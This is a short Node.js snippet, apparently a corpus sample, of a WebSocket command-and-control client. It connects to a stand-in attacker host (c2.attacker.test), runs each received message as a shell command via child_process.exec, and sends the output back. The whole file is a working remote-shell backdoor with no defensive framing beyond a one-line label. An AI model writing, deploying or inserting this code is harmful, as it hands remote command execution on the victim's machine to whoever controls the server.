// corpus: WebSocket C2 client (Node 22 global or ws package) executing received commands
const { exec } = require('child_process');
const WS = globalThis.WebSocket || require('ws');

const ws = new WS('wss://c2.attacker.test/agent');
ws.onmessage = (ev) => exec(String(ev.data), (err, out) => ws.send(out || String(err)));
